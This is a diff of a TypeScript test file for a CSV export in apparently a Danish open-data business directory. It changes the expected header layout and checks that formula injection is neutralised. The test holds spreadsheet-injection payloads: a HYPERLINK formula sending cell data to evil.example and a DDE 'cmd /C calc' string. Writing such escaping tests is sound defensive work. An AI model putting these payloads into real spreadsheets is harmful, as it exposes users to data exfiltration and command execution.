@@ -53,10 +53,10 @@ describe('open data', () => {
     });
   });
 
-  it('writes CSV that Danish Excel opens in columns: BOM, source line, semicolons, quoted fields', () => {
-    const csv = toCsv([record], 'Kilde: test. Licens: CC BY 4.0');
-    expect(csv.startsWith('\uFEFF# Kilde: test. Licens: CC BY 4.0\r\n')).toBe(true);
-    const [, header, row] = csv.slice(1).split('\r\n');
+  it('writes CSV that Danish Excel and pandas open in columns: BOM, the header first, semicolons, quoted fields', () => {
+    const csv = toCsv([record]);
+    expect(csv.startsWith('\uFEFFnavn;cvr;')).toBe(true);
+    const [header, row] = csv.slice(1).split('\r\n');
     expect(header).toBe('navn;cvr;selskabsform;branche;bydel;ydelser;rsv;stiftet;hjemmeside;beskrivelse;side;senest_gennemgaaet');
     expect(row).toBe('"Kooperativet ""Syd""; tryk og grafik";;A.M.B.A.;Medier og kultur;Valby;Tryk og grafisk, Kommunikation og medier;nej;;;"Et fiktivt trykkeri\nmed to linjer.";https://example.dk/virksomheder/syd/;2026-11-29');
   });
@@ -71,7 +71,7 @@ describe('open data', () => {
       offers: ['detailhandel'],
       summary: '@SUM(1+1)*cmd|" /C calc"!A0',
     });
-    const row = toCsv([toPublicRecord(hostile, 'https://example.dk/virksomheder/x/')], 'Kilde').slice(1).split('\r\n')[2]!;
+    const row = toCsv([toPublicRecord(hostile, 'https://example.dk/virksomheder/x/')]).slice(1).split('\r\n')[1]!;
     const cells = row.split(/;(?=(?:[^"]*"[^"]*")*[^"]*$)/);
     expect(cells[0]).toBe(`"'=HYPERLINK(""https://evil.example/?""&A1;""Klik"")"`);
     expect(cells[9]).toBe(`"'@SUM(1+1)*cmd|"" /C calc""!A0"`);
